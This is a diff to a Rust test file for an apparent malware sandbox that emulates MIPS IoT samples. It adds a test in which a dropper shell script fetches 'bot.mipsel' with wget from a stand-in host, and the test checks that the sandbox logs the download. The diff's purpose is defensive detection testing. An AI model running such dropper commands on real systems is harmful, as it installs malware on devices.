@@ -29,7 +29,6 @@ fn techniques(report: &Report) -> Vec<&str> {
 }
 
 #[test]
-#[ignore = "needs the socket calls"]
 fn the_beacon_is_seen_to_fork_write_delete_and_call() {
     let bytes = sample("beacon.mipsel");
     let outcome = run(&bytes, "/tmp/.x/beacon", &Settings::default());
@@ -72,7 +71,6 @@ fn the_beacon_is_seen_to_fork_write_delete_and_call() {
 }
 
 #[test]
-#[ignore = "needs the socket calls"]
 fn the_lookup_sleeps_a_minute_in_no_time_and_speaks_http_to_a_made_up_address() {
     let bytes = sample("lookup.mipsel");
     let began = std::time::Instant::now();
@@ -134,6 +132,21 @@ fn a_shell_dropper_runs_on_the_camera() {
         assert_eq!((dropped.name.as_bytes(), content.as_slice()), (&b"/tmp/.x"[..], &b"x\n"[..]));
         assert!(report.unsupported.is_empty(), "{:?}", report.unsupported);
     }
+}
+
+#[test]
+fn a_dropper_that_fetches_is_followed_into_the_fake_internet() {
+    let script =
+        b"#!/bin/sh\ncd /tmp\nwget http://dl.otori.example/bot.mipsel -O bot || echo failed\nls -l bot\n";
+    let outcome = run(script, "/tmp/d.sh", &camera());
+    let report = outcome.report;
+    assert_eq!(report.end, End::Exited { status: 0 }, "{:?}", report.output);
+    assert_eq!(report.names.first().map(String::as_str), Some("dl.otori.example"), "{:?}", report.output);
+    let http = report.contacts.iter().find(|contact| contact.application == "http").unwrap();
+    assert_eq!(http.url.as_deref(), Some("http://dl.otori.example/bot.mipsel"));
+    assert!(techniques(&report).contains(&"T1105"), "{:#?}", report.behaviours);
+    let fetched = outcome.dropped.iter().find(|(artifact, _)| artifact.name.as_bytes() == b"/tmp/bot");
+    assert!(fetched.is_some_and(|(_, bytes)| bytes.starts_with(b"<html>")), "{:?}", report.output);
 }
 
 #[test]
